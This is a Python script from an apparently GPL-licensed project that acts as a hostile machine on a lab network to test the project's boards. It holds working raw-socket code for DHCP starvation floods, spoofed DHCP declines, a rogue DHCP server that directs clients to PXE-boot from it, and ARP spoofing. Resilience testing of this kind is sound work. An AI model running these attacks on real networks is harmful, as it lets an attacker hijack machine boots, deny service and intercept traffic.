# Copyright: hetero.compute contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A machine on the boards' network that sends what it likes: run in the lab's namespace, which is on their bridge.

`neighbour.py VERB JSON` writes one JSON line when it is ready and one when it is done; what goes on does so until its
standard input ends. It takes nothing from the collection, as an attacker would not.
"""

from __future__ import annotations

import json
import select
import socket
import struct
import sys
import time

IP, ARP = 0x0800, 0x0806
BRIDGE = "boards"
COOKIE = b"\x63\x82\x53\x63"
EVERYONE = "ff:ff:ff:ff:ff:ff"


def mac_bytes(mac):
    return bytes.fromhex(mac.replace(":", ""))


def raw(protocol):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(protocol))
    wire.bind((BRIDGE, protocol))
    return wire


def udp(source, target, ports, payload, addresses=("0.0.0.0", "255.255.255.255")):
    """A frame with a UDP datagram (its checksum left out, as RFC 768 allows)."""
    body = struct.pack("!4H", *ports, 8 + len(payload), 0) + payload
    ends = [socket.inet_aton(address) for address in addresses]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, 17, 0, *ends)
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    head = head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + head[12:]
    return mac_bytes(target) + mac_bytes(source) + struct.pack("!H", IP) + head + body


def dhcp(op, kind, mac, options=(), xid=b"evil", address="0.0.0.0", first=b""):
    head = struct.pack("!4B4sHH", op, 1, 6, 0, xid, 0, 0x8000)
    body = head + bytes(4) + socket.inet_aton(address) + bytes(8)
    body += mac_bytes(mac).ljust(16, b"\0") + bytes(192) + COOKIE
    wanted = first + bytes([53, 1, kind]) + b"".join(bytes([code, len(value)]) + value for code, value in options)
    return body + wanted + b"\xff"


def say(**what):
    print(json.dumps(what), flush=True)


def serving():
    """Whether whoever started this still wants it."""
    return not select.select([sys.stdin], [], [], 0)[0]


def declines(wire, server, boards, count, source=""):
    """In each board's name, its address is declined, in frames from `source` or the board's own MAC."""
    for number in range(count):
        for mac, address in boards:
            options = [(54, socket.inet_aton(server)), (50, socket.inet_aton(address))]
            pad = b"\0" * (number % 7)
            message = dhcp(1, 4, mac, options, first=pad)
            wire.send(udp(source or mac, EVERYONE, (68, 67), message))


def discovers(wire, seconds):
    """Requests of clients that are none, as fast as they go."""
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        mac = f"02:00:{sent >> 24 & 255:02x}:{sent >> 16 & 255:02x}:{sent >> 8 & 255:02x}:{sent & 255:02x}"
        wire.send(udp(mac, EVERYONE, (68, 67), dhcp(1, 1, mac)))
        sent += 1
    return sent


def asks(wire, mac, source, seconds=1.0):
    """The address that is offered to a client whose requests come in frames of `source`; None where none is."""
    wire.settimeout(0.2)
    wire.send(udp(source, EVERYONE, (68, 67), dhcp(1, 1, mac, xid=b"asks")))
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            message = wire.recv(2048)[42:]
        except socket.timeout:
            continue
        if message[:1] == b"\2" and message[4:8] == b"asks":
            return socket.inet_ntoa(message[16:20])
    return None


def server(wire, own, given, real):
    """A DHCP server that answers everyone, gives all the same address, and names itself as the place to boot from."""
    wire.settimeout(0.2)
    answered = 0
    while serving():
        try:
            frame = wire.recv(2048)
        except socket.timeout:
            continue
        message = frame[42:]
        if frame[23] != 17 or frame[36:38] != b"\0\x43" or message[:1] != b"\1":
            continue
        mac = ":".join(f"{byte:02x}" for byte in message[28:34])
        kind = 2 if bytes([53, 1, 1]) in message[240:250] else 5
        options = [
            (54, socket.inet_aton(own)),
            (51, struct.pack("!I", 3600)),
            (1, b"\xff\xff\xff\0"),
            (66, own.encode()),
            (67, b"boot.ipxe"),
        ]
        answer = dhcp(2, kind, mac, options, message[4:8], given)
        answer = answer[:20] + socket.inet_aton(own) + answer[24:]
        wire.send(udp(real, EVERYONE, (67, 68), answer, (own, "255.255.255.255")))
        answered += 1
    return answered


def takes(wire, address, mac, target, seconds):
    """An address is announced as one's own, to everyone or to one machine, again and again."""
    body = struct.pack("!HHBBH", 1, IP, 6, 4, 2) + mac_bytes(mac) + socket.inet_aton(address)
    body += mac_bytes(target) + socket.inet_aton(address)
    frame = mac_bytes(target) + mac_bytes(mac) + struct.pack("!H", ARP) + body
    end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < end and serving():
        wire.send(frame)
        sent += 1
        time.sleep(0.02)
    return sent


def main(verb, options):
    with raw(ARP if verb == "takes" else IP) as wire:
        say(ready=True)
        say(done=globals()[verb](wire, **options))


if __name__ == "__main__":
    main(sys.argv[1], json.loads(sys.argv[2]))
